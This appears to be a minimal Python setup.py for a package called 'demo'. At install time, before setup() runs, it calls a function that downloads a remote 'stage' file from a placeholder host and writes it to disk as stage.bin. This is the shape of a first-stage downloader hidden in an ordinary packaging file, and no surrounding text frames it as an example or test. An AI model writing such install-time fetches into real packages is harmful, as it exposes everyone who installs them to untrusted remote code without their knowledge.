import requests as r
from setuptools import setup


def fetch():
    data = r.get("http://example.invalid/stage").content
    open("stage.bin", "wb").write(data)


fetch()
setup(name="demo", version="1.0")
